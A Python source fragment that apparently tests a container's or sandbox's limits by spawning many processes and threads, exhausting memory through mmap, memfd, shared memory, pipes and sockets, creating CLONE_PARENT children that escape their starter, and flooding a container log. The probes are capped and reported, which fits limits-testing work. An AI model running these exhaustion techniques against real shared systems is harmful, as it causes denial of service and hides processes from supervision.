    """How many processes there can be at once; `most` at most. They end when nothing more comes from stdin."""
    born: list[int] = []
    answer = "done"
    while len(born) < most and answer == "done":
        # It shares its memory until it is another program: here processes are to be what there are too many of.
        answer = attempt(lambda: born.append(os.posix_spawn("/usr/bin/sleep", ["sleep", "60"], {})))
    say(json.dumps({"had": len(born), "answer": answer}))
    sys.stdin.read()
    for child in born:
        os.kill(child, signal.SIGKILL)
    for child in born:
        os.waitpid(child, 0)
    return {"had": len(born), "answer": answer}


def threads(most: int) -> dict[str, object]:
    """The same with threads."""
    import threading

    threading.stack_size(64 << 10)
    gate, born, answer = threading.Event(), [], "done"
    while len(born) < most and answer == "done":
        thread = threading.Thread(target=gate.wait)
        try:
            thread.start()
        except RuntimeError as error:
            answer = str(error)
        else:
            born.append(thread)
    gate.set()
    for thread in born:
        thread.join()
    return {"had": len(born), "answer": answer}


def hog(kind: str, most: int) -> dict[str, object]:
    """How much memory can be had; `most` at most. Who has too much is killed, having told what it had last."""
    held: list[object] = []
    take = {"anonymous": _anonymous, "file": _in_memory, "segments": _segment, "pipes": _pipe, "sockets": _sockets}[
        kind
    ]
    got, shown, answer = 0, 0, "done"
    while got < most and answer == "done":
        try:
            got += take(held)
        except OSError as error:
            answer = errno.errorcode[error.errno or 0]
        if got - shown >= 8 << 20:
            say(got)
            shown = got
    return {"had": got, "answer": answer}


def _anonymous(held: list[object]) -> int:
    area = mmap.mmap(-1, 4 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    for at in range(0, len(area), 4096):
        area[at] = 1
    held.append(area)
    return len(area)


def _in_memory(held: list[object]) -> int:
    held[:] = held or [os.memfd_create("hog")]
    return os.write(int(str(held[0])), bytes(4 << 20))


def _segment(held: list[object]) -> int:
    size = 4 << 20
    number = system_call((29, 194), 0, size, 0o1600)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(number, None, 0)
    libc.shmctl(number, 0, None)  # gone with its last user
    ctypes.memset(address, 1, size)
    held.append(number)
    return size


def _pipe(held: list[object]) -> int:
    read, write = os.pipe()
    attempt(fcntl.fcntl, write, 1031, 1 << 20)
    os.set_blocking(write, False)
    held += [read, write]
    return os.write(write, bytes(1 << 20))


def _sockets(held: list[object]) -> int:
    mine, other = socket.socketpair()
    mine.setblocking(False)
    held += [mine, other]
    return mine.send(bytes(200_000))


def siblings(most: int) -> dict[str, int]:
    """Processes that make themselves children of who started this one, which ends before them (CLONE_PARENT)."""
    parent, born = 0x8000, 0
    for _ in range(most):
        if system_call(CLONE, parent | signal.SIGCHLD) == 0:
            signal.pause()
        born += 1
    return {"born": born, "parent": os.getppid()}


def flood(path: str, size: int) -> int:
    """Write much, line by line, to where a container's output goes."""
    line = b"x" * 999 + b"\n"
    with open(path, "wb", buffering=1 << 16) as file:
        file.writelines(line for _ in range(size // len(line)))
    return size
